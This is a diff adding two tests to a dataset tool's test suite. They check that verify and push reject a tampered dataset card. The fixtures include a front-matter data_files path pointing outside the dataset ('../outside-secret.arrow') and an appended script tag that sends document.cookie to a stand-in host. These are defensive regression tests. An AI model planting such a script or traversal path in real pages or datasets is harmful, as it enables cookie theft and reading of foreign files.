@@ -374,3 +374,46 @@ def test_verify_reports_link_members_inside_a_tar_shard(tmp_path):
     assert r.exit_code == 1 and "is a symlink" in r.output, r.output
     ds = open_dataset(str(root))
     assert len(list(ds.stream("train", seed=0, shuffle=False))) == ds.num_samples("train") == 4
+
+
+@pytest.mark.parametrize("record", ["recomputed", "dropped"])
+def test_a_card_whose_data_files_point_outside_the_dataset_is_a_verify_problem(good, tmp_path, record):
+    """Issue 57: a README.md whose front matter's data_files named a file outside the dataset passed verify (its
+    manifest record made to match, or dropped as in a manifest older than the record), and datasets.load_dataset then
+    read the foreign file. verify compares the front matter with what finalize writes for the manifest."""
+    import hashlib
+
+    root = tmp_path / "ds"
+    shutil.copytree(good, root)
+    card = root / "README.md"
+    text = card.read_text()
+    assert text.startswith("---\n") and "path: data/train-*.arrow" in text
+    card.write_text(text.replace("path: data/train-*.arrow", "path: ../outside-secret.arrow"))
+    man = json.loads((root / "manifest.json").read_text())
+    if record == "dropped":
+        del man["card"]
+    else:
+        man["card"] = {"bytes": card.stat().st_size, "sha256": hashlib.sha256(card.read_bytes()).hexdigest()}
+    (root / "manifest.json").write_text(json.dumps(man))
+    rep = verify_dataset(str(root), progress=False)
+    assert [p for p in rep.problems if p.startswith(f"{card}: its front matter")] == rep.problems != [], rep.problems
+    r = CliRunner().invoke(app, ["verify", str(root)])
+    assert r.exit_code == 1 and "front matter" in r.output, r.output
+    with pytest.raises(CorruptShardError, match=re.escape(f"{card}: its front matter")):  # it was sent as is
+        push(str(root), str(tmp_path / "bucket"), progress=False)
+    assert not (tmp_path / "bucket" / "README.md").exists()
+
+
+def test_push_refuses_a_card_that_is_not_the_one_its_manifest_records(good, tmp_path, capsys):
+    """Issue 57: a card given HTML and a script after finalize was pushed as is (only verify and pull checked it
+    against the manifest's record); push now refuses it in one line (exit 2) before anything is sent."""
+    root = tmp_path / "ds"
+    shutil.copytree(good, root)
+    card = root / "README.md"
+    card.write_text(card.read_text() + "\n<script>fetch('https://example.invalid/?' + document.cookie)</script>\n")
+    with pytest.raises(SystemExit) as e:
+        main(["push", str(root), str(tmp_path / "bucket")])
+    err = capsys.readouterr().err.strip().splitlines()
+    assert e.value.code == 2 and len(err) == 1 and err[0].startswith(f"error: {card}: not the card the manifest "
+                                                                      "records"), err
+    assert not list((tmp_path / "bucket").rglob("*.arrow")), "push sent shards before refusing the card"
